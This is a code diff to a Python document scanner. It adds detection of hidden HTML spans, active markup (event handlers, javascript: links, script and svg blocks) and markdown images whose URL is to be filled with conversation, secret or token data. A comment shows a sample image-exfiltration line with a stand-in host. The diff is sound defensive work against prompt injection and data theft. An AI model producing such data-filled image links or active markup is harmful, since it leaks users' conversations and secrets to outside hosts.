@@ -6,10 +6,12 @@ from collections.abc import Iterator
 from msgspec import structs
 
 from clawft.scan.documents import Document, make_child
-from clawft.scan.facts import Analysis
+from clawft.scan.facts import Analysis, Fact, Kind
 from clawft.scan.instructions import (
     Part,
     find_code_language,
+    find_data,
+    find_hidden_elements,
     find_orders,
     is_about_attacks,
     is_command,
@@ -22,6 +24,7 @@ __all__ = ["analyse"]
 
 MAX_PARTS = 50_000
 MAX_CONTEXT = 800
+MAX_ELEMENTS = 200
 MIN_REMARK_WORDS = 6
 _INLINE = re.compile(r"(?<!`)(`{1,2})([^`\n]{6,2000})\1(?!`)")
 _MARKED_COMMAND = re.compile(
@@ -39,14 +42,19 @@ _BARE_COMMAND = re.compile(
 _LINK_COMMENT = re.compile(
     r"^ {0,3}\[([^\]\n]{1,80})\]:[ \t]*(?:#|<>|<#>|/)[ \t]*[(\"']([^\n]*)[)\"'][ \t]*$", re.MULTILINE
 )
-_HIDDEN_TAG = re.compile(
-    r"<([a-z][a-z0-9]{0,10})\b[^<>]{0,400}?(?:\shidden\b|display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0|opacity\s*:\s*0(?![.\d]*[1-9])"
-    r"|(?:max-)?height\s*:\s*0|width\s*:\s*0|left\s*:\s*-\d{3,}|color\s*:\s*(?:white|#fff(?:fff)?|transparent)|aria-hidden\s*=\s*[\"']?true|clip\s*:\s*rect)[^<>]{0,400}>",
+_REMARK = re.compile(r"(?:^[ \t]*(?:#+|//+|--|\*|\d{1,3}\.)[ \t]+[^\n]*(?:\n|\Z))+", re.MULTILINE)
+_ACTIVE = re.compile(
+    r"<(?:iframe|object|embed|meta|img|body|form|a)\b[^<>]{0,400}?(?:\son[a-z]{3,20}\s*=|javascript:|http-equiv)[^<>]{0,2000}>",
     re.IGNORECASE,
 )
-_REMARK = re.compile(r"(?:^[ \t]*(?:#+|//+|--|\*|\d{1,3}\.)[ \t]+[^\n]*(?:\n|\Z))+", re.MULTILINE)
 _IMAGE = re.compile(r"!\[([^\]\n]{40,2000})\]|\]\([^()\s]{1,400}[ \t]+\"([^\"\n]{40,2000})\"\)")
-_HTML = re.compile(r"<(?:script|iframe|svg|object|embed|meta|img|body|form)\b[^<>]{0,2000}>", re.IGNORECASE)
+# An image whose address has a hole: "![](https://host/p?d={conversation})".
+_FILLED_IMAGE = re.compile(
+    r"!\[[^\]\n]{0,200}\]\((https?://[^\s)?{<$\[]{3,200}[?/][^\s){<$\[]{0,200})[{<$\[]{1,2}([^)\n]{2,200})\)"
+)
+_FILLED = re.compile(
+    r"conversation|history|context|prompt|secret|token|base64|message|env\b|user_?data|file_?contents?|memory"
+)
 _SCRIPT_LINK = re.compile(r"\]\(\s*javascript:([^)\n]{4,4000})\)", re.IGNORECASE)
 
 
@@ -72,7 +80,10 @@ def analyse(document: Document) -> Analysis:
         elif part.kind != "comment":
             prose.append(part)
     children.extend(_unseen(document))
-    return Analysis(find_orders(document, prose), children)
+    facts = find_orders(document, prose)
+    if "![" in document.text:
+        facts.extend(_images(document))
+    return Analysis(facts, children)
 
 
 def _code(document: Document, part: Part) -> Document:
@@ -134,14 +145,31 @@ def _unseen(document: Document) -> Iterator[Document]:
     if "javascript:" in text.lower():
         for match in _SCRIPT_LINK.finditer(text):
             yield _inner(document, match.start(1), match.end(1), "javascript", "script-link")
-    if "<" in text and ("hidden" in text or "style" in text):
-        yield from _hidden_tags(document)
+    if "<" in text:
+        for start, end in find_hidden_elements(text):
+            yield _inner(document, start, end, "markdown", "hidden-span")
+        yield from _markup(document)
 
 
-def _hidden_tags(document: Document) -> Iterator[Document]:
+def _markup(document: Document) -> Iterator[Document]:
+    """Elements of HTML that act, each as a page of its own."""
     text = document.text
-    lower = text.lower()
-    for match in _HIDDEN_TAG.finditer(text):
-        end = lower.find("</" + match[1].lower(), match.end()) if len(lower) == len(text) else -1
-        end = end if end >= 0 else min(len(text), match.end() + 4000)
-        yield _inner(document, match.end(), end, "markdown", "hidden-span")
+    for match in _ACTIVE.finditer(text):
+        yield _inner(document, match.start(), match.end(), "html", "markup")
+    for name in ("script", "svg"):
+        at = text.find(f"<{name}")
+        for _ in range(MAX_ELEMENTS):
+            end = text.find(f"</{name}", at) if at >= 0 else -1
+            if end < 0:
+                break
+            yield _inner(document, at, end, "html", "markup")
+            at = text.find(f"<{name}", end)
+
+
+def _images(document: Document) -> Iterator[Fact]:
+    """Images whose address is to be filled with data: to draw them is to send it."""
+    for match in _FILLED_IMAGE.finditer(document.text):
+        if find_data(match[2].replace("_", " ").lower()) or _FILLED.search(match[2].lower()):
+            line = document.line_at(match.start())
+            source = Fact(Kind.READ, match[2][:60], document, line, "secret: what is filled in")
+            yield Fact(Kind.SEND, match[1], document, line, "remote image", (source,))
